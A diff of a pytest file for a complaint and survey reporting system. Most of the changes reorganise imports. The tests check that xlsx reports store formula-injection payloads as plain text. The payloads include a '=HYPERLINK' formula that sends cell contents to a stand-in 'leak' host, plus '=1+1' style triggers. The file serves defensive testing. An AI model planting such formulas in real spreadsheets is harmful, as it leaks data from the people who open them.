@@ -22,6 +22,9 @@ from typing import TYPE_CHECKING
 import pytest
 
 from loket.complaints import book as cp
+from loket.complaints.models import Complaint
+from loket.complaints.rules import load_rules as load_complaint_rules
+from loket.complaints.times import WIB
 from tests.conftest_complaints import (  # noqa: F401  (fixtures)
     Home,
     c_home,
@@ -42,7 +45,6 @@ PAYLOADS = (
     "\r=1+1",
 )
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-WIB = cp.WIB
 
 
 def _cells(path: Path) -> list[Cell]:
@@ -74,10 +76,10 @@ def _assert_text_only(path: Path, expected: set[str]) -> None:
 # the monthly complaint report (loket complaints report --month)
 
 
-def _add_hostile_complaints(c_home: Home, session) -> list[cp.Complaint]:  # type: ignore[no-untyped-def]
+def _add_hostile_complaints(c_home: Home, session) -> list[Complaint]:  # type: ignore[no-untyped-def]
     from loket.approval.officials import load_officials
 
-    rules = cp.load_rules(c_home.rules / "complaints.yaml")
+    rules = load_complaint_rules(c_home.rules / "complaints.yaml")
     officer = load_officials(c_home.rules / "officials.yaml").by_nip(
         c_home.people["petugas_pengaduan"]
     )
@@ -219,7 +221,9 @@ def test_sla_report_xlsx_holds_official_names_as_text(
 
 def test_skm_report_xlsx_holds_survey_text_as_text(c_home: Home, c_session, tmp_path: Path) -> None:
     from loket.approval.officials import load_officials
-    from loket.survey import skm
+    from loket.survey.report import write_report
+    from loket.survey.rules import load_rules as load_skm_rules
+    from loket.survey.storage import import_survey, responses_of
 
     rows = make_survey(40, 3)
     for i, payload in enumerate(PAYLOADS):
@@ -229,18 +233,18 @@ def test_skm_report_xlsx_holds_survey_text_as_text(c_home: Home, c_session, tmp_
         rows[i]["jenis_kelamin"] = payload[:30]
     rows[-1]["umur"] = "=1+1"  # a rejected row: its file name and problem are listed
     path = write_survey(tmp_path / "=survei.csv", rows)
-    skm.import_survey(c_session, path)
+    import_survey(c_session, path)
     c_session.commit()
-    _data, files = skm.write_report(
+    _data, files = write_report(
         c_session,
         2026,
-        rules=skm.load_rules(c_home.rules / "skm.yaml"),
+        rules=load_skm_rules(c_home.rules / "skm.yaml"),
         officials=load_officials(c_home.rules / "officials.yaml"),
         outbox=c_home.outbox,
         pdf=False,
     )
     xlsx = next(f for f in files if f.suffix == ".xlsx")
-    stored = {r.occupation for r in skm.responses_of(c_session, 2026) if r.occupation}
+    stored = {r.occupation for r in responses_of(c_session, 2026) if r.occupation}
     assert '=HYPERLINK("http://example.invalid/?leak="&B2)' in stored
     _assert_text_only(xlsx, stored | {"=survei.csv"})
 
